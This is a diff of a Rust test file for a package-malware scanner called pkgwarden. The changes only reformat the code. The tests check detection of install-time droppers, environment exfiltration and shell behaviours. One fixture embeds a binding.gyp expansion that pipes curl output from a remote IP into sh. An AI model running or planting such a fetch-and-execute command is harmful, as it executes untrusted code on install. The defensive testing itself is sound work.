@@ -11,7 +11,10 @@ use pkgwarden::PackageReport;
 
 fn npm(dir: &str) -> PackageReport {
     let name = dir.rsplit('/').next().unwrap();
-    scan(&format!("{name}-1.0.0.tgz"), &gzip(&tar(&files(&fixture(dir)), "package/")))
+    scan(
+        &format!("{name}-1.0.0.tgz"),
+        &gzip(&tar(&files(&fixture(dir)), "package/")),
+    )
 }
 
 fn rubygem(dir: &str) -> PackageReport {
@@ -20,7 +23,10 @@ fn rubygem(dir: &str) -> PackageReport {
 }
 
 fn category_of(r: &PackageReport, rule: &str) -> Category {
-    with_rule(r, rule).first().unwrap_or_else(|| panic!("no {rule}: {:#?}", r.findings)).category
+    with_rule(r, rule)
+        .first()
+        .unwrap_or_else(|| panic!("no {rule}: {:#?}", r.findings))
+        .category
 }
 
 #[test]
@@ -31,7 +37,9 @@ fn postinstall_dropper_downloads_to_home_and_starts_detached() {
     assert_finding(&r, "write-home", "package/install.js", 9);
     assert_finding(&r, "detached-process", "package/install.js", 14);
     assert_finding(&r, "dropper-chain", "package/install.js", 8);
-    assert!(with_rule(&r, "dropper-chain").iter().all(|f| f.phase == Phase::Install));
+    assert!(with_rule(&r, "dropper-chain")
+        .iter()
+        .all(|f| f.phase == Phase::Install));
 }
 
 #[test]
@@ -61,7 +69,13 @@ fn dependency_from_a_url() {
 
 #[test]
 fn benign_npm_lookalikes_are_clean() {
-    for dir in ["npm/node-gyp", "npm/husky-prepare", "npm/prisma-generate", "npm/banner", "npm/cli-git"] {
+    for dir in [
+        "npm/node-gyp",
+        "npm/husky-prepare",
+        "npm/prisma-generate",
+        "npm/banner",
+        "npm/cli-git",
+    ] {
         let r = npm(dir);
         assert_eq!(r.verdict, Verdict::Clean, "{dir}: {:#?}", r.findings);
     }
@@ -75,8 +89,15 @@ fn bin_script_without_extension_is_analysed_as_javascript() {
     let contents = pkgwarden::archive::read_archive(&bytes, &Default::default()).unwrap();
     let pkg = pkgwarden::package::Package::new(contents.entries, "git-short-log-1.0.0.tgz");
     let analysed = pkgwarden::analysis::analyse(&pkg, &Default::default());
-    let bin = analysed.iter().find(|f| f.path == "package/bin/gsl").expect("bin/gsl analysed");
-    assert!(bin.facts.calls.iter().any(|c| c.callee == "child_process.spawnSync"));
+    let bin = analysed
+        .iter()
+        .find(|f| f.path == "package/bin/gsl")
+        .expect("bin/gsl analysed");
+    assert!(bin
+        .facts
+        .calls
+        .iter()
+        .any(|c| c.callee == "child_process.spawnSync"));
     assert!(bin.facts.calls.iter().any(|c| c.callee == "sh.git"));
 }
 
@@ -94,7 +115,9 @@ fn gem_post_install_hook_sends_the_environment() {
     let r = rubygem("rubygems/plugin-hook");
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
     assert_finding(&r, "env-exfiltration", "lib/rubygems_plugin.rb", 6);
-    assert!(with_rule(&r, "env-exfiltration").iter().all(|f| f.phase == Phase::Install));
+    assert!(with_rule(&r, "env-exfiltration")
+        .iter()
+        .all(|f| f.phase == Phase::Install));
 }
 
 #[test]
@@ -131,9 +154,19 @@ fn install_script_shell_behaviours() {
         let manifest = serde_json::json!({
             "name": "probe", "version": "1.0.0", "scripts": { "postinstall": script }
         });
-        let bytes = gzip(&tar(&[("package.json".to_string(), manifest.to_string().into_bytes())], "package/"));
+        let bytes = gzip(&tar(
+            &[(
+                "package.json".to_string(),
+                manifest.to_string().into_bytes(),
+            )],
+            "package/",
+        ));
         let r = scan("probe-1.0.0.tgz", &bytes);
-        assert!(!with_rule(&r, rule).is_empty(), "{script}: no {rule} in {:#?}", r.findings);
+        assert!(
+            !with_rule(&r, rule).is_empty(),
+            "{script}: no {rule} in {:#?}",
+            r.findings
+        );
         assert_ne!(r.verdict, Verdict::Clean, "{script}");
     }
 }
@@ -144,7 +177,10 @@ fn gyp_command_expansion_runs_at_install() {
     let gyp = "{ 'targets': [ { 'target_name': 'x',\n 'sources': [ '<!(curl -s http://192.0.2.8/s | sh)' ] } ] }";
     let manifest = r#"{ "name": "x", "version": "1.0.0", "gypfile": true }"#;
     let bytes = gzip(&tar(
-        &[("package.json".to_string(), manifest.into()), ("binding.gyp".to_string(), gyp.into())],
+        &[
+            ("package.json".to_string(), manifest.into()),
+            ("binding.gyp".to_string(), gyp.into()),
+        ],
         "package/",
     ));
     let r = scan("x-1.0.0.tgz", &bytes);
@@ -154,11 +190,19 @@ fn gyp_command_expansion_runs_at_install() {
 
 /// Runs `body` on a thread with a large stack, as scan workers do.
 fn on_big_stack(body: impl FnOnce() + Send + 'static) {
-    std::thread::Builder::new().stack_size(256 << 20).spawn(body).unwrap().join().unwrap();
+    std::thread::Builder::new()
+        .stack_size(256 << 20)
+        .spawn(body)
+        .unwrap()
+        .join()
+        .unwrap();
 }
 
 fn scan_js(name: &str, source: String) -> PackageReport {
-    let bytes = gzip(&tar(&[(name.to_string(), source.into_bytes())], "payload-1.0.0/"));
+    let bytes = gzip(&tar(
+        &[(name.to_string(), source.into_bytes())],
+        "payload-1.0.0/",
+    ));
     scan("payload-1.0.0.tgz", &bytes)
 }
 
@@ -168,7 +212,11 @@ fn hostile_javascript_shapes_do_not_crash() {
         let deep_arrays = format!("x = {}1{};", "[".repeat(100_000), "]".repeat(100_000));
         let r = scan_js("arrays.js", deep_arrays);
         assert_ne!(r.verdict, Verdict::Error);
-        assert!(r.notes.iter().any(|n| n.contains("nesting")), "{:?}", r.notes);
+        assert!(
+            r.notes.iter().any(|n| n.contains("nesting")),
+            "{:?}",
+            r.notes
+        );
 
         let deep_parens = format!("y = {}1{};", "(".repeat(50_000), ")".repeat(50_000));
         assert_ne!(scan_js("parens.js", deep_parens).verdict, Verdict::Error);
